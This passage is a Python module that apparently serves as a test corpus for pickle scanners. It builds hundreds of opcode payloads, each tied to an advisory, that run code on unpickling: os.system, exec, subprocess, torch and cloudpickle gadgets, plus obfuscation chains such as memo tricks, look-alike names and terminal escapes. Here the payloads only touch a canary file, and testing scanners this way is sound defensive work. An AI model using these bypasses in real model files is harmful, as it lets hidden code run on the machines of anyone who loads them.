"""Payloads: stretches of pickle opcodes that touch a canary file when they run, and what they are written with.

Each says where its trick is from: the advisories and write-ups in which scanners of pickles (picklescan, modelscan,
fickling, modelaudit) were shown to miss something.
"""

from __future__ import annotations

import io
import os
import pickletools
import struct
import sys
import types
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import cloudpickle

MEMO = 20_000  # payloads keep what they remember from here on, out of the way of the pickle around them


# --- Opcodes ---


def text(value: str) -> bytes:
    """A string."""
    encoded = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(encoded)) + encoded


def data(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def number(value: int) -> bytes:
    return b"J" + struct.pack("<i", value) if abs(value) < 2**31 else b"L" + str(value).encode() + b"L\n"


def entry(module: str, name: str) -> bytes:
    """A name as old protocols write it."""
    return f"c{module}\n{name}\n".encode()


def stacked(module: str, name: str) -> bytes:
    """A name as protocol 4 writes it; it may be dotted."""
    return text(module) + text(name) + b"\x93"


def values(*parts: bytes) -> bytes:
    return b"(" + b"".join(parts) + b"t"


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + values(*arguments) + b"R"


def lists(*parts: bytes) -> bytes:
    return b"](" + b"".join(parts) + b"e"


def pairs(*parts: bytes) -> bytes:
    return b"}(" + b"".join(parts) + b"u"


def put(index: int) -> bytes:
    return b"r" + struct.pack("<I", MEMO + index)


def get(index: int) -> bytes:
    return b"j" + struct.pack("<I", MEMO + index)


def ops_of(value: object) -> bytes:
    """What `pickle` writes for a value, without its first and last opcode and with its memo moved out of the way."""
    stream = cloudpickle.dumps(value, protocol=4)
    marks = [(opcode.name, argument, at) for opcode, argument, at in pickletools.genops(stream)]
    out, remembered = b"", 0
    for (opcode, argument, at), (_, _, end) in zip(marks, [*marks[1:], ("", None, len(stream))], strict=True):
        if opcode == "MEMOIZE":
            out += put(1000 + remembered)
            remembered += 1
        elif opcode in ("BINGET", "LONG_BINGET"):
            out += get(1000 + argument)
        elif opcode not in ("PROTO", "FRAME", "STOP"):
            out += stream[at:end]
    return out


def whole(ops: bytes) -> bytes:
    """A pickle of its own."""
    return b"\x80\x04" + ops + b"."


# --- What a payload does when it runs ---


def source(canary: Path) -> str:
    """Python that touches the canary, as a statement and as an expression."""
    return f"open({str(canary)!r}, 'w').close()"


def shell(canary: Path) -> str:
    """The same for `sh` and for Windows' `cmd`."""
    return f'echo ran> "{canary}"'


@dataclass(frozen=True)
class Payload:
    """Opcodes that touch the canary when they run.

    Attributes:
        told: where the trick is from.
        ops: canary → opcodes that leave one value.
        fires: whether plain `pickle.loads` runs it here, which a test proves; not where it needs another platform, a
            program, torch, or more arguments than it is worth.
    """

    name: str
    told: str
    ops: Callable[[Path], bytes]
    fires: bool = False


def touch(canary: Path) -> bytes:
    """The plainest one."""
    return call(entry("builtins", "exec"), text(source(canary)))


def unheard_of(canary: Path) -> bytes:
    """One whose name is on no list: a module that lies nearby."""
    return call(entry("canary_module", "touch"))


def lie_nearby(folder: Path) -> None:
    """Lay out what payloads import, unpickle or run from beside them; all of it touches the file that $CANARY names."""
    code = "import os\n\n\ndef touch(*args, **options):\n    open(os.environ['CANARY'], 'w').close()\n\n\ntouch()\n"
    (folder / "canary_module.py").write_text(code, "utf-8")
    (folder / "hubconf.py").write_text(code, "utf-8")
    (folder / "nested.pkl").write_bytes(whole(unheard_of(folder)))


SYSTEM = "posix" if os.name == "posix" else "nt"
POSIX = os.name == "posix"
BEFORE_313 = sys.version_info < (3, 13)


def _code(canary: Path) -> types.CodeType:
    return compile(source(canary), "canary", "exec")


def dynamic_function(canary: Path) -> types.FunctionType:
    """A function that pickles by value, as bytecode."""
    module = compile(f"def touch(*args, **options): {source(canary)}", "canary", "exec")
    return types.FunctionType(next(part for part in module.co_consts if isinstance(part, types.CodeType)), {})


def dynamic_class(canary: Path) -> type:
    """A class that pickles by value; making an object of it touches the canary."""
    return type("Layer", (), {"__setstate__": dynamic_function(canary), "__module__": "__main__"})


def _torch_bytes(ops: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("archive/data.pkl", whole(ops))
        archive.writestr("archive/version", "3\n")
    return buffer.getvalue()


def _gadgets() -> list[Payload]:
    """The gadgets: a function that one call turns into the attacker's code."""
    code, sh, at = (lambda c: text(source(c))), (lambda c: text(shell(c))), (lambda c: text(str(c)))
    nested = lambda c: text(str(c.with_name("nested.pkl")))  # noqa: E731
    bytecode, inner = (lambda c: ops_of(_code(c))), (lambda c: data(whole(touch(c))))
    python = text(sys.executable)
    argv = lambda c: lists(python, text("-c"), text(source(c)))  # noqa: E731
    nothing, empty, none = b")", b"}", b"N"

    def gadget(module: str, name: str, told: str, *arguments: Callable[[Path], bytes] | bytes, fires: bool = False) -> Payload:
        def ops(canary: Path) -> bytes:
            return call(stacked(module, name), *(part(canary) if callable(part) else part for part in arguments))

        return Payload(f"{module} {name}", told, ops, fires)

    bypass = "missing from picklescan's list of dangerous names (GHSA advisories of 2025)"
    fickling = "missing from fickling's list of unsafe imports"
    game = "modelaudit's record of scanner bypasses"
    plain = "the Python documentation's warning on pickle"
    in_torch = "a torch function that picklescan did not list (GHSA advisories of 2025)"
    return [
        gadget("os", "system", plain, sh, fires=True),
        gadget(SYSTEM, "system", "os.system under the name that pickle itself writes", sh, fires=True),
        gadget("nt" if POSIX else "posix", "system", "the other platform's name of os.system", sh),
        gadget("os", "popen", plain, sh),
        gadget("os", "spawnl", plain, number(0), python, python, text("-c"), code, fires=POSIX),
        gadget("os", "execv", plain, python, argv),
        gadget("os", "mkdir", "a file system change instead of a command", at, fires=True),
        gadget("os", "fork", plain),
        gadget("os", "_exit", "ends the process that scans", number(0)),
        gadget("os", "abort", "ends the process that scans"),
        gadget("sys", "exit", "picklescan's test files", number(0)),
        gadget("subprocess", "Popen", plain, argv),
        gadget("subprocess", "check_output", plain, argv, fires=True),
        gadget("subprocess", "call", plain, argv, fires=True),
        gadget("_posixsubprocess", "fork_exec", fickling, argv, lists(python), b"\x88", nothing, none, none),
        gadget("multiprocessing.util", "spawnv_passfds", "calls fork_exec", python, argv, nothing),
        gadget("builtins", "exec", plain, code, fires=True),
        gadget("builtins", "eval", plain, code, fires=True),
        gadget("__builtin__", "eval", "Python 2's name, which pickle maps to today's", code),
        gadget("__builtin__", "apply", "Python 2's function", stacked("os", "system"), values(text("true"))),
        gadget("builtins", "compile", plain, code, text("canary"), text("exec")),
        gadget("builtins", "open", "creates a file and no command", at, text("w"), fires=True),
        gadget("builtins", "__import__", "importing runs a module that lies nearby", text("canary_module"), fires=True),
        gadget("builtins", "breakpoint", "picklescan's list"),
        gadget("builtins", "input", "hangs whoever opens it"),
        gadget("builtins", "help", game, text("canary_module")),
        gadget("builtins", "globals", "the stack of Slaviero's Sour Pickles (Black Hat 2011) begins with it"),
        gadget("builtins", "setattr", "replaces a function of a module", stacked("os", "path"), text("sep"), text("!")),
        gadget("io", "open", "builtins.open by another name", at, text("w"), fires=True),
        gadget("_io", "FileIO", "picklescan's test files", at, text("w"), fires=True),
        gadget("codecs", "open", "opens a file through another module", at, text("w"), fires=True),
        gadget("pathlib", "Path.touch", game, lambda c: call(stacked("pathlib", "Path"), text(str(c))), fires=True),
        gadget("pathlib", "Path.write_text", game, lambda c: call(stacked("pathlib", "Path"), at(c)), text(""), fires=True),
        gadget("shutil", "copyfile", "file access", text(__file__), at, fires=True),
        gadget("shutil", "rmtree", "deletes", at),
        gadget("tempfile", "mkdtemp", "makes a folder", none, none, at),
        gadget("importlib", "import_module", "picklescan pull request 74", text("canary_module"), fires=True),
        gadget("importlib._bootstrap", "_gcd_import", "importlib by an inner name", text("canary_module"), fires=True),
        gadget("runpy", "run_path", "picklescan's test files", lambda c: text(str(c.with_name("canary_module.py")))),
        gadget("runpy", "_run_code", "picklescan's test files", bytecode, empty, fires=True),
        gadget("pty", "spawn", "fickling GHSA-r7v6-mfhq-g3m2", argv),
        gadget("code", "InteractiveInterpreter.runcode", bypass, lambda c: pairs(text("locals"), empty), bytecode),
        gadget("codeop", "compile_command", fickling, code),
        gadget("cProfile", "run", bypass, code, fires=True),
        gadget("cProfile", "runctx", bypass, code, empty, empty, fires=True),
        gadget("profile", "run", bypass, code, fires=True),
        gadget("profile", "Profile.runctx", bypass, lambda c: call(stacked("profile", "Profile")), code, empty, empty,
            fires=True),
        gadget("trace", "Trace.runctx", bypass, lambda c: call(stacked("trace", "Trace"), number(0), number(0)), code, empty,
            empty,
               fires=True),
        gadget("pdb", "run", bypass, code),
        gadget("bdb", "Bdb.run", bypass, lambda c: call(stacked("bdb", "Bdb")), code, fires=True),
        gadget("timeit", "timeit", bypass, text(""), code, fires=True),
        gadget("doctest", "debug_script", bypass, code, b"\x88"),
        gadget("pydoc", "pipepager", bypass, text(""), sh, fires=True),
        gadget("pydoc", "locate", bypass, text("canary_module"), fires=True),
        gadget("ensurepip", "_run_pip", bypass, lists(text("--version"))),
        gadget("pip", "main", "CVE-2025-1716", lists(text("install"), text("no-such-package"))),
        gadget("venv", "create", bypass, at),
        gadget("idlelib.run", "Executive.runcode", bypass, empty, code),
        gadget("idlelib.pyshell", "ModifiedInterpreter.runcommand", bypass, empty, code),
        gadget("idlelib.autocomplete", "AutoComplete.get_entity", bypass, none, code),
        gadget("idlelib.calltip", "get_entity", bypass, code),
        gadget("idlelib.debugobj", "ObjectTreeItem.SetText", bypass, empty, code),
        gadget("lib2to3.pgen2.grammar", "Grammar.loads", bypass, empty, inner),
        gadget("lib2to3.pgen2.pgen", "ParserGenerator.make_label", bypass, none, empty, code),
        gadget("distutils.file_util", "write_file", bypass, at, lists(text("x"))),
        gadget("setuptools._distutils.spawn", "spawn", game, argv),
        gadget("asyncio.unix_events", "_UnixSubprocessTransport._start", bypass, empty, sh, b"\x88", none, none, none,
            number(0)),
        gadget("asyncio", "run", "fickling's list of unsafe imports", none),
        gadget("mailcap", "findmatch", game,
               lambda c: pairs(text("a/b"), lists(pairs(text("view"), text("cat"), text("test"), sh(c)))), text("a/b")),
        gadget("pipes", "Template.copy", game, none, text("/dev/null"), at),
        gadget("typing", "get_type_hints", game, lambda c: call(stacked("builtins", "type"), text("C"), nothing,
               pairs(text("__annotations__"), pairs(text("x"), text(f"{source(c)} or int")))), fires=True),
        gadget("typing", "_eval_type", game, lambda c: call(stacked("typing", "ForwardRef"), text(f"{source(c)} or int")),
            empty, empty),
        gadget("dataclasses", "_create_fn", game, text("f"), lambda c: lists(text(f"a={source(c)}")), lists(text("return 0")),
               fires=BEFORE_313),
        gadget("dataclasses", "make_dataclass", game, text("C"), lambda c: lists(values(text("x"), code(c)))),
        gadget("collections", "namedtuple", "builds source text and runs it", text("C"), code),
        gadget("operator", "call", game, stacked("builtins", "exec"), code, fires=True),
        gadget("_operator", "call", game, stacked("builtins", "exec"), code, fires=True),
        gadget("operator", "attrgetter", "picklescan GHSA-955r-x9j8-7rhh", text("system")),
        gadget("_testcapi", "run_in_subinterp", fickling, code),
        gadget("_xxsubinterpreters", "run_string", "fickling GHSA-6ggj-6f2q-f7mx", number(0), code),
        gadget("_interpreters", "run_string", "fickling GHSA-6ggj-6f2q-f7mx", number(0), code),
        gadget("atexit", "register", "fickling GHSA-m6fh-58r7-x697: runs when the process ends", stacked("os", "mkdir"), at,
            fires=True),
        gadget("site", "addsitedir", "fickling GHSA-m6fh-58r7-x697: runs .pth files", lambda c: text(str(c.parent))),
        gadget("threading", "Thread", "runs later, on another thread", none, stacked("os", "mkdir"), none,
            lambda c: values(text(str(c)))),
        gadget("_thread", "start_new_thread", "runs later, on another thread", stacked("os", "mkdir"),
            lambda c: values(text(str(c)))),
        gadget("signal", "alarm", fickling, number(1)),
        gadget("gc", "get_objects", "hands out every object of the process"),
        gadget("inspect", "getattr_static", fickling, stacked("os", "path"), text("os")),
        gadget("ctypes", "CDLL", "picklescan GHSA-4675-36f9-wf6r", none),
        gadget("ctypes", "string_at", "reads any address, which ends the process", number(0)),
        gadget("ctypes.util", "find_library", "starts programs", text("c")),
        gadget("uuid", "_get_command_stdout", "fickling GHSA-5hwf-rc88-82xm", python, text("--version")),
        gadget("_osx_support", "_find_build_tool", "fickling GHSA-5hwf-rc88-82xm", text("ls")),
        gadget("platform", "popen", fickling, sh),
        gadget("logging", "FileHandler", fickling, at, fires=True),
        gadget("logging.config", "dictConfig", "calls whatever its configuration names", lambda c: pairs(
               text("version"), number(1), text("handlers"), pairs(text("h"), pairs(
               text("()"), text("logging.FileHandler"), text("filename"), text(str(c))))), fires=True),
        gadget("sqlite3", "connect", fickling, at),
        gadget("shelve", "open", fickling, at),
        gadget("dbm.dumb", "open", "creates files", at, text("n")),
        gadget("zipfile", "ZipFile", fickling, at, text("w"), fires=True),
        gadget("tarfile", "open", fickling, at, text("w"), fires=True),
        gadget("py_compile", "compile", fickling, text(__file__), at, fires=True),
        gadget("linecache", "getlines", fickling, text(__file__)),
        gadget("pickle", "loads", "a pickle inside a pickle", inner, fires=True),
        gadget("_pickle", "loads", "a pickle inside a pickle", inner, fires=True),
        gadget("cloudpickle", "loads", "a pickle inside a pickle", inner),
        gadget("dill", "loads", "a pickle inside a pickle", inner),
        gadget("joblib", "load", "a pickle in another file", nested),
        gadget("pandas", "read_pickle", "a pickle in another file", nested),
        gadget("pandas", "eval", "evaluates text", code),
        gadget("numpy", "load", "a pickle in another file", nested, none, b"\x88"),
        gadget("marshal", "loads", "picklescan pull request 74", data(b"N")),
        gadget("torch.storage", "_load_from_bytes", "a pickle inside a pickle, through torch",
            lambda c: data(_torch_bytes(touch(c)))),
        gadget("torch", "load", "picklescan's test files", nested),
        gadget("torch.serialization", "load", "picklescan's list", nested),
        gadget("torch.hub", "load", "downloads a repository and runs its hubconf.py", text("a/b"), text("c")),
        gadget("torch.hub", "_load_local", "runs a hubconf.py that lies nearby", lambda c: text(str(c.parent)), text("c")),
        gadget("torch.hub", "download_url_to_file", "downloads", text("http://127.0.0.1:9/"), at),
        gadget("torch.jit", "load", "opens a TorchScript archive", at),
        gadget("torch.jit._script", "unpackage_script_module", "what TorchScript pickles as", none, text("x")),
        gadget("torch.jit.unsupported_tensor_ops", "execWrapper", in_torch, code, empty, empty),
        gadget("torch.fx.graph_module", "reduce_graph_module", "torch.fx pickles a module as source text",
               lambda c: pairs(text("_code"), text(f"def forward(self, x):\n    {source(c)}\n")), text("import canary_module")),
        gadget("torch.fx.graph_module", "reduce_package_graph_module", "the same in a torch.package", none, empty, text("x")),
        gadget("torch.fx.graph_module", "_exec_with_source", "executes text", code, empty),
        gadget("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", in_torch, empty, code, b"]"),
        gadget("torch._dynamo.guards", "GuardBuilder.get", in_torch, empty, code),
        gadget("torch._inductor.codecache", "compile_file", in_torch, text(""), text(""), argv),
        gadget("torch._inductor.codecache", "PyCodeCache.load", "runs source text", code),
        gadget("torch.utils._config_module", "ConfigModule.load_config", in_torch, empty, inner),
        gadget("torch.utils.bottleneck.__main__", "run_autograd_prof", in_torch, code, empty),
        gadget("torch.utils.bottleneck.__main__", "run_cprofile", in_torch, code, empty),
        gadget("torch.utils.collect_env", "run", in_torch, sh),
        gadget("torch.utils.collect_env", "run_and_read_all", in_torch, stacked("torch.utils.collect_env", "run"), sh),
        gadget("torch.utils.data.datapipes.utils.decoder", "basichandlers", in_torch, text("pickle"), inner),
        gadget("torch.utils.cpp_extension", "load_inline", "compiles and loads C++", text("x"), text("int x;")),
        gadget("torch.ops", "load_library", "loads a shared library", at),
        gadget("torch.classes", "load_library", "loads a shared library", at),
        gadget("torch.distributed.rpc.internal", "_run_function", "runs a pickled function", none),
        gadget("torch.package", "PackageImporter", "imports modules out of the file", at),
        gadget("torch", "save", "overwrites a file", none, at),
        gadget("torch", "set_default_dtype", "changes what all later models are", stacked("torch", "float64")),
        gadget("torch", "manual_seed", "changes global state", number(1)),
        gadget("torch", "set_num_threads", "changes global state", number(1)),
        gadget("torch.nn.modules.module", "register_module_forward_hook", "a hook on all modules of the process",
               stacked("builtins", "print")),
        gadget("torch", "zeros", "an allocation without weights", lambda c: values(number(2**40))),
        gadget("torchvision.datasets.utils", "download_url", "downloads", text("http://127.0.0.1:9/"), at),
        gadget("torchvision.datasets.utils", "extract_archive", "writes files", at, at),
        gadget("torchvision.models", "get_model_weights", "looks names up", text("resnet18")),
        gadget("torchvision.io", "write_file", "writes a file", at, none),
        gadget("timm", "create_model", "downloads weights", text("resnet18"), b"\x88"),
        gadget("timm.models._hub", "load_state_dict_from_hf", "downloads and unpickles", text("a/b")),
        gadget("timm.models._builder", "load_pretrained", "downloads and unpickles", none),
        gadget("fastai.data.external", "untar_data", "downloads and unpacks", text("http://127.0.0.1:9/x.tgz")),
        gadget("fastai.learner", "load_learner", "a pickle in another file", nested),
        gadget("fastcore.xtras", "load_pickle", "a pickle in another file", nested),
        gadget("fastcore.xtras", "run", "starts programs", sh),
        gadget("fastcore.basics", "exec_new", "executes text", code),
        gadget("fastcore.net", "urlread", "asks a host", text("http://127.0.0.1:9/")),
        gadget("fastai.layers", "os.system", "a module that a module of layers happens to import", sh),
        gadget("torch.nn.modules.module", "torch.os.system", "the same in torch", sh),
        gadget("torch.serialization", "os.system", "the same in torch", sh),
        gadget("torch", "serialization.os.system", "a dotted name: only its first part is on a list", sh),
        gadget("torch.nn.modules.linear", "math.__loader__.load_module", "a dotted name out of a module of layers", text("os")),
        gadget("torch.nn.modules.linear", "Linear.forward.__globals__.__getitem__", "a dotted name into a function's globals",
               text("torch")),
        gadget("torch.nn.modules.linear", "Linear.__init__.__globals__", "a dotted name into a function's globals"),
        gadget("torch.nn", "Module.__subclasses__", "every module class there is"),
        gadget("collections", "OrderedDict.fromkeys", "a class method of an allowed class", nothing),
        gadget("collections", "_sys.modules.get", "sys, by way of an allowed module", text("os")),
        gadget("numpy.f2py.crackfortran", "getlincoef", "picklescan GHSA-r8g5-cgf2-4m4m", code, empty),
        gadget("numpy.testing._private.utils", "runstring", "picklescan's list", code, empty),
        gadget("numpy", "fromfile", "reads a file", text(__file__)),
        gadget("numpy", "save", "writes a file", at, number(1)),
        gadget("numpy", "memmap", "writes a file", at, text("uint8"), text("w+"), number(0), values(number(8))),
        gadget("webbrowser", "open", "picklescan's list", text("http://127.0.0.1:9/")),
        gadget("socket", "create_connection", "picklescan's test files", values(text("127.0.0.1"), number(9))),
        gadget("ssl", "get_server_certificate", "a leak through the name that is looked up", values(text("127.0.0.1"),
            number(9))),
        gadget("urllib.request", "urlopen", "picklescan's test files", text("http://127.0.0.1:9/")),
        gadget("http.client", "HTTPSConnection", "picklescan's test files", text("127.0.0.1")),
        gadget("requests", "get", "picklescan's test files", text("http://127.0.0.1:9/")),
        gadget("smtplib", "SMTP", fickling, text("127.0.0.1"), number(9)),
        gadget("socketserver", "TCPServer", fickling, values(text("127.0.0.1"), number(0)), none),
        gadget("_pyrepl.pager", "pipe_pager", "the newer home of pydoc's pagers", text(""), sh),
        gadget("test.support.script_helper", "assert_python_ok", fickling, text("-c"), code),
        gadget("unittest.mock", "_importer", "imports", text("canary_module")),
        gadget("pkgutil", "resolve_name", "picklescan GHSA-vvpj-8cmc-gx39: reaches every function", text("os:system")),
        gadget("cffi", "FFI", "native code"),
        gadget("picklescan.scanner", "scan_file_path", "switches a scanner off, or calls it", at),
        gadget("model.source", "load", "this project's own functions", none),
        gadget("model", "Classifier.load", "this project's own functions", none),
        gadget("canary_module", "anything", "a module that lies beside the process: importing it is enough", fires=True),
        gadget("canary_module", "touch", "a name that is on no list", fires=True),
        gadget("this", "s", "a module that prints when it is imported"),
        gadget("antigravity", "webbrowser.open", "a module that opens a browser when it is imported", text("x")),
    ]  # fmt: skip


def _chains() -> list[Payload]:
    """Payloads that assemble their way out of parts each of which looks harmless."""
    chain, fire = "a chain of harmless looking calls", True

    def payload(name: str, told: str, ops: Callable[[Path], bytes], fires: bool = False) -> Payload:
        return Payload(name, told, ops, fires)

    getattr_, import_ = stacked("builtins", "getattr"), stacked("importlib", "import_module")
    partial = stacked("functools", "partial")

    class Caller:
        """Pickles as a call of whatever it is given."""

        def __init__(self, function: object, *arguments: object) -> None:
            self.call = (function, arguments)

        def __reduce__(self) -> tuple[object, tuple[object, ...]]:
            return self.call

    return [
        payload("reduce of a class", "the textbook example", lambda c: ops_of(Caller(exec, source(c))), fire),
        payload("getattr of an imported module", chain, lambda c: call(
            call(getattr_, call(import_, text("os")), text("mkdir")), text(str(c))), fire),
        payload("getattr of a name split into letters", "modelscan issue 331", lambda c: call(
            call(getattr_, call(import_, call(call(getattr_, text(""), text("join")), lists(text("o"), text("s")))),
                 call(call(getattr_, text(""), text("join")), lists(text("mk"), text("dir")))), text(str(c))), fire),
        payload("getattr down from a tuple to every class", chain, lambda c: call(call(getattr_, call(getattr_, call(
            getattr_, b")", text("__class__")), text("__base__")), text("__subclasses__")))),
        payload("Slaviero's globals, compile, eval", "Sour Pickles, Black Hat 2011", lambda c: call(
            entry("__builtin__", "eval"), call(entry("__builtin__", "compile"), text(source(c)), text(""), text("exec")),
            call(entry("__builtin__", "globals")))),
        payload("partial, called", "functools.partial as the function of REDUCE", lambda c: call(
            call(partial, stacked("builtins", "exec"), text(source(c)))), fire),
        payload("partial with a state", "BUILD gives a partial another function", lambda c: call(
            call(partial, stacked("builtins", "print")) + values(
                stacked("builtins", "exec"), values(text(source(c))), b"}", b"N") + b"b"), fire),
        payload("methodcaller on a module", "picklescan GHSA-84r2-jw7c-4r5q", lambda c: call(
            call(stacked("operator", "methodcaller"), text("mkdir"), text(str(c))), call(import_, text("os"))), fire),
        payload("attrgetter on a module", "picklescan GHSA-955r-x9j8-7rhh", lambda c: call(
            call(call(stacked("operator", "attrgetter"), text("mkdir")), call(import_, text("os"))), text(str(c))), fire),
        payload("itemgetter on a module's names", "picklescan GHSA-955r-x9j8-7rhh", lambda c: call(call(
            call(stacked("operator", "itemgetter"), text("mkdir")), stacked("os", "__dict__")), text(str(c))), fire),
        payload("map, drained by a list", "lazy calls that a container makes", lambda c: call(stacked("builtins", "list"), call(
            stacked("builtins", "map"), stacked("os", "mkdir"), lists(text(str(c))))), fire),
        payload("map, drained by a deque", "lazy calls that a container makes", lambda c: call(stacked("collections", "deque"),
            call(stacked("builtins", "map"), stacked("os", "mkdir"), lists(text(str(c))))), fire),
        payload("starmap, drained by an OrderedDict", "lazy calls that an allowed class makes", lambda c: call(
            entry("collections", "OrderedDict"), call(stacked("itertools", "starmap"), stacked("os", "mkdir"),
            lists(values(text(str(c)))))), fire),
        payload("map, drained by a set", "lazy calls that an allowed class makes", lambda c: call(
            stacked("builtins", "set"), call(stacked("builtins", "map"), stacked("os", "mkdir"), lists(text(str(c))))), fire),
        payload("map, drained by torch.Size", "lazy calls that an allowed class makes", lambda c: call(
            stacked("torch", "Size"), call(stacked("builtins", "map"), stacked("os", "mkdir"), lists(text(str(c)))))),
        payload("functools.reduce", "fickling's list of unsafe imports", lambda c: call(
            stacked("functools", "reduce"), stacked("os", "mkdir"), lists(text(str(c)), number(511))), fire),
        payload("defaultdict's factory", "modelaudit's record: a look-up that calls", lambda c: call(
            stacked("operator", "getitem"), call(stacked("collections", "defaultdict"),
            call(partial, stacked("os", "mkdir"), text(str(c)))), text("x")), fire),
        payload("sorted with a key", "a call that a comparison makes", lambda c: call(
            stacked("builtins", "filter"), stacked("os", "mkdir"), lists(text(str(c))))),
        payload("iter with a sentinel", "a call that an iteration makes", lambda c: call(stacked("builtins", "next"), call(
            stacked("builtins", "iter"), call(partial, stacked("os", "mkdir"), text(str(c))), number(9))), fire),
        payload("re.sub's function", "modelaudit's record: a call that a match makes", lambda c: call(
            stacked("re", "sub"), text("x"), call(partial, stacked("builtins", "exec"), text(source(c))), text("x"))),
        payload("a weakref's callback", "modelaudit's record: runs when something is freed", lambda c: call(
            stacked("weakref", "finalize"), call(stacked("builtins", "set")), stacked("os", "mkdir"), text(str(c))), fire),
        payload("an object made by type()", "a class of the file's own, with methods", lambda c: call(call(
            stacked("builtins", "type"), text("T"), b")", pairs(text("__init__"), ops_of(dynamic_function(c)))))),
        payload("FunctionType of a code object", "a function out of bytecode", lambda c: call(call(
            stacked("types", "FunctionType"), ops_of(_code(c)), pairs(text("__builtins__"), stacked("builtins", "__dict__")))),
            fire),
        payload("CodeType", "bytecode that crashes the interpreter", lambda c: call(
            stacked("types", "CodeType"), *(number(n) for n in (0, 0, 0, 0, 0, 0)), data(b"\xff\xff" * 8), b")", b")", b")",
            text("x"), text("x"), text("x"), number(1), data(b""), data(b""))),
        payload("cloudpickle's function, called", "how fastai pickles functions",
            lambda c: call(ops_of(dynamic_function(c))), fire),
        payload("cloudpickle's class, with a state", "how fastai pickles classes", lambda c: (
            ops_of(dynamic_class(c)) + b")\x81}b"), fire),
        payload("cloudpickle _make_function", "how fastai pickles functions", lambda c: call(
            stacked("cloudpickle.cloudpickle", "_make_function"), ops_of(_code(c)), b"}", b"N", b"N", b"N")),
        payload("cloudpickle _make_skeleton_class", "how fastai pickles classes", lambda c: call(
            stacked("cloudpickle.cloudpickle", "_make_skeleton_class"), stacked("builtins", "type"), text("T"), b")",
            pairs(text("__module__"), text("os")), b"N", b"N")),
        payload("cloudpickle _builtin_type", "looks a type up by name", lambda c: call(
            stacked("cloudpickle.cloudpickle", "_builtin_type"), text("FunctionType"))),
        payload("cloudpickle subimport", "imports by name", lambda c: call(
            stacked("cloudpickle.cloudpickle", "subimport"), text("canary_module"))),
        payload("cloudpickle's setstate as a call", "BUILD's six-part form", lambda c: call(
            stacked("cloudpickle.cloudpickle", "_function_setstate"), stacked("os", "system"), values(b"}", b"}"))),
        payload("INST", "protocol 0's instance opcode, which scanners forgot",
            lambda c: b"(" + text(source(c)) + b"ibuiltins\nexec\n", fire),
        payload("OBJ", "protocol 1's instance opcode, which scanners forgot", lambda c: (
            b"(" + entry("builtins", "exec") + text(source(c)) + b"o"), fire),
        payload("NEWOBJ of a Popen", "NEWOBJ and BUILD instead of REDUCE", lambda c: entry("subprocess", "Popen") + b")\x81}b"),
        payload("NEWOBJ_EX", "keyword arguments", lambda c: (
            stacked("zipfile", "ZipFile") + values(text(str(c)), text("w")) + b"}\x92")),
        payload("REDUCE of a REDUCE", "the function is itself the result of a call", lambda c: call(
            call(getattr_, stacked("builtins", "exec"), text("__call__")), text(source(c))), fire),
        payload("GLOBAL with a space", "what separates module and name", lambda c: call(b"cbuiltins \n exec\n",
            text(source(c)))),
        payload("GLOBAL with a carriage return", "line ends", lambda c: call(b"cbuiltins\r\nexec\r\n", text(source(c)))),
        payload("a name with a newline", "STACK_GLOBAL may hold one", lambda c: call(
            stacked("torch\nbuiltins", "Tensor\nexec"), text(source(c)))),
        payload("a name with terminal codes", "what a listing shows is not what it says", lambda c: call(
            stacked("torch\x1b]0;owned\x07", "\x1b[2J\x1b[31mTensor\u202e\r"), text(source(c)))),
        payload("a look-alike name", "Cyrillic letters", lambda c: call(stacked("t\u043erch.nn", "Linear"), text(source(c)))),
        payload("a name in full-width letters", "NFKC turns it into os", lambda c: call(stacked("\uff4f\uff53", "system"),
            text(shell(c)))),
        payload("a name with a lone surrogate", "no file system and no terminal can write it", lambda c: call(
            stacked("\udc80", "\ud800"), text(source(c)))),
        payload("a name with a null byte", "C strings end there", lambda c: call(stacked("torch\0os", "Tensor\0system"),
            text(shell(c)))),
        payload("an empty name", "module and name are empty", lambda c: call(stacked("", ""), text(source(c)))),
        payload("a name of ten megabytes", "an error message as large as the file", lambda c: call(stacked("m" * 10_000_000,
            "f"))),
        payload("a relative name", "import with leading dots", lambda c: call(stacked("..os", "system"), text(shell(c)))),
        payload("a name as bytes", "Python 2's strings", lambda c: call(
            b"U\x08builtinsU\x04exec\x93", text(source(c))), fire),
        payload("a name out of the memo", "picklescan issue 14: a memo that the scanner reads differently", lambda c: (
            text("builtins") + put(2) + b"0" + text("exec") + put(3)
                + b"0" + text("torch") + put(0) + b"0" + text("Size") + put(1)
            + b"0" + call(get(2) + get(3) + b"\x93", text(source(c)))), fire),
        payload("a memo written twice", "picklescan issue 14", lambda c: (
            text("torch") + put(0) + b"0" + text("builtins") + put(0) + b"0" + text("exec") + put(1) + b"0"
            + call(get(0) + get(1) + b"\x93", text(source(c)))), fire),
        payload("a memo under text numbers", "GET and PUT as text beside LONG_BINPUT", lambda c: (
            text("builtins") + b"p00021\n0" + text("exec") + b"p22\n0" + call(b"g21\nh\x16\x93", text(source(c)))), fire),
        payload("a memo under a negative number", "PUT takes text", lambda c: b"Np-1\n0" + touch(c)),
        payload("a memo under a huge number", "PUT takes text", lambda c: b"Np" + b"9" * 30 + b"\n0" + touch(c)),
        payload("a memo far out", "an array as large as the index", lambda c: b"Nr\xff\xff\xff\x7f0" + touch(c)),
        payload("a memo never set", "GET of nothing", lambda c: b"j\xff\xff\xff\x7f" + touch(c) + b"0"),
        payload("a name out of numbers", "STACK_GLOBAL with operands that are not text", lambda c: b"K\x01K\x02\x93"),
        payload("a name out of an object", "STACK_GLOBAL with operands that are objects", lambda c: (
            call(stacked("torch", "Size"), b")") + text("x") + b"\x93")),
        payload("names out of attributes", "modelscan issue 85: BUILD sets them on a function, STACK_GLOBAL reads them",
            lambda c: (
            stacked("functools", "reduce") + b"N" + pairs(text("a"), text("os")) + b"\x86b0" + call(stacked("os", "mkdir"),
                text(str(c))))),
        payload("EXT1", "copyreg's registry of extensions", lambda c: b"\x82\x01" + b")R"),
        payload("EXT2", "copyreg's registry of extensions", lambda c: b"\x83\x01\x01" + b")R"),
        payload("EXT4", "copyreg's registry of extensions", lambda c: b"\x84\x01\x01\x01\x01" + b")R"),
